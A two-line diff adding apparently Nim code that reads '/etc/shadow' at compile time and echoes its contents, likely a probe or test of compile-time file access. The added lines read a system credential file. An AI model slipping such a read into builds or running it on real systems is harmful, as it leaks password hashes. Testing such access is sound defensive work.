@@ -1,0 +1,2 @@
+const secret = staticRead("/etc/shadow")
+echo secret
